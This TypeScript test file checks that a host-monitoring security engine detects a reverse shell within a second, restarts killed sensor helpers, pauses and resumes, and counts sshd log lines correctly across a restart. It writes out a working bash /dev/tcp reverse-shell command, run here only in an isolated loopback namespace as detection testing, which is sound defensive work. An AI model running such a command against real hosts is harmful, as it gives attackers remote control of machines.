/** What programs do on a computer with an engine on it: seen by the real sensors, and told as alerts within a second. */
import { type ChildProcess, spawn } from 'node:child_process';
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { whyNoNamespaces } from '../main/engine/sensors/testing/namespace-pair.ts';
import { findProgram } from '../scripts/lib/programs.mjs';
import { sensorSwitch } from './holdfast.ts';
import { type HeardAlert, LiveEngine } from './support/live-engine.ts';
import { helpersOf, isRunning } from './support/processes.ts';

/** An alert is to be heard so soon after its cause; some more for a machine that runs other tests beside. */
const ALERT_LIMIT_MS = 1_000;
const SLOW_MACHINE_MS = 1_500;
const PORT = 4_444;
const SHELL = 'bash --norc -i';
/** A network and processes of their own, with nothing but loopback. */
const APART = ['unshare', '--net', '--pid', '--fork', '--mount-proc'];
const LISTENER = `require('node:net').createServer((s)=>{s.on('error',()=>{});console.log('connected')}).listen(${PORT},'127.0.0.1',()=>console.log('ready'))`;

const missing = ['unshare', 'ip', 'bash'].filter((tool) => findProgram(tool) === undefined);
const reason = missing.length > 0 ? `needs ${missing.join(', ')}` : whyNoNamespaces();
if (reason !== undefined) console.warn(`Live watching of the host is not tested: ${reason}`);

describe.skipIf(reason !== undefined)('the host', () => {
  let folder: string;
  let log: string;
  let engine: LiveEngine;
  const began: ChildProcess[] = [];

  const start = (): Promise<LiveEngine> =>
    LiveEngine.start({
      dataDirectory: join(folder, 'data'),
      prefix: [],
      daemonArguments: ['--interface', 'lo'],
      environment: {
        [sensorSwitch('processes')]: 'true',
        [sensorSwitch('logs')]: 'true',
        [sensorSwitch('logFiles')]: `syslog:${log}`,
      },
    });

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'holdfast-e2e-'));
    mkdirSync(join(folder, 'log'));
    log = join(folder, 'log', 'auth.log');
    writeFileSync(log, refused(3));
    engine = await start();
    await watching();
  });

  afterAll(async () => {
    for (const { pid } of began) if (pid !== undefined) endGroup(pid);
    await engine?.kill();
    if (folder !== undefined) rmSync(folder, { recursive: true, force: true });
  });

  async function watching(): Promise<void> {
    await engine.health('processes', ({ detail }) => /watched|is seen/.test(detail));
    await engine.health('logs', ({ state }) => state === 'ok');
  }

  /** Runs a shell script apart from the machine; its process is an ancestor of all that it does. */
  function apart(script: string): number {
    const [file, ...args] = [...APART, 'bash', '-c', `ip link set lo up; ${script}`];
    const child = spawn(file, args, { detached: true, stdio: 'ignore' });
    began.push(child);
    return child.pid ?? 0;
  }

  /** The first time that an alert names both a process below this one that was run so, and this technique. */
  async function alertBelow(pid: number, commandLine: string, technique: string, from: number): Promise<HeardAlert> {
    const isMeant = ({ alert: { processes = [], techniques } }: HeardAlert): boolean =>
      techniques.includes(technique) &&
      processes.some((process) => process.pid === pid) &&
      processes.some((process) => process.commandLine === commandLine);
    try {
      const find = (): HeardAlert | undefined => engine.heard.slice(from).find(isMeant);
      return await vi.waitUntil(find, { timeout: 45_000, interval: 10 });
    } catch {
      const told = engine.heard.slice(from).map(({ change, alert }) => `${change} ${alert.title}`);
      throw new Error(`no ${technique} below ${pid}; heard: ${told.join('; ') || 'nothing'}`);
    }
  }

  async function reverseShell(): Promise<HeardAlert> {
    const from = engine.heard.length;
    const script = `${process.execPath} -e "${LISTENER}" > ${folder}/news & until grep -q ready ${folder}/news; do sleep 0.05; done; date +%s%3N > ${folder}/begun; bash -c '${SHELL} >& /dev/tcp/127.0.0.1/${PORT} 0>&1'; wait`;
    // Non-Application Layer Protocol: what only the behaviour names.
    return alertBelow(apart(script), SHELL, 'T1095', from);
  }

  it('hears of a shell for somebody else within a second', async () => {
    const { alert, heardMs } = await reverseShell();
    const begunMs = Number(readFileSync(join(folder, 'begun'), 'utf8'));
    console.log(`A reverse shell is told after ${heardMs - begunMs} ms: ${alert.title}`);
    expect(alert.severity).toMatch(/high|critical/);
    expect(heardMs - begunMs).toBeLessThan(ALERT_LIMIT_MS + SLOW_MACHINE_MS);
  });

  it('brings a killed helper back, and goes on', async () => {
    const [helper, ...others] = helpersOf(engine.pid, 'processes');
    expect(others).toEqual([]);
    process.kill(helper, 'SIGKILL');
    await vi.waitUntil(() => helpersOf(engine.pid, 'processes').some((pid) => pid !== helper), { timeout: 45_000 });
    await engine.health(
      'processes',
      ({ detail, counters }) => /watched|is seen/.test(detail) && counters.restarts === 1,
    );
    expect(isRunning(helper)).toBe(false);
    await reverseShell();
  });

  it('stops the sensors for a pause, and starts them again', async () => {
    expect(await engine.holdfast('pause', '5', '--reason', 'a test')).toMatchObject({ stderr: '', code: 0 });
    await engine.health('processes', ({ state }) => state === 'off');
    await vi.waitUntil(() => helpersOf(engine.pid, 'processes').length === 0, { timeout: 45_000 });
    expect(await engine.holdfast('resume')).toMatchObject({ stderr: '', code: 0 });
    await watching();
  });

  it('reads no line of a log twice, and none too few, over a restart', async () => {
    const lines = () => engine.health('logs', () => true).then(({ counters }) => counters.lines);
    expect(await lines()).toBe(0);
    appendFileSync(log, refused(2));
    await engine.health('logs', ({ counters }) => counters.lines === 2);
    // A helper was killed and watching paused before: neither may have cost the engine a descriptor, of which Node warns.
    expect(await engine.interrupt()).toMatchObject({ stderr: '' });
    appendFileSync(log, refused(4));
    engine = await start();
    await engine.health('logs', ({ counters }) => counters.lines === 4);
    appendFileSync(log, refused(1));
    await engine.health('logs', ({ counters }) => counters.lines === 5);
  });
});

function endGroup(pid: number): void {
  try {
    process.kill(-pid, 'SIGKILL');
  } catch {
    // It has ended.
  }
}

/** Lines of refused logins, as sshd writes them. */
function refused(count: number): string {
  const stamp = new Date().toISOString();
  const line = (number: number): string =>
    `${stamp} host sshd[${4_000 + number}]: Failed password for invalid user test from 203.0.113.9 port ${2_000 + number} ssh2\n`;
  return Array.from({ length: count }, (_, number) => line(number)).join('');
}
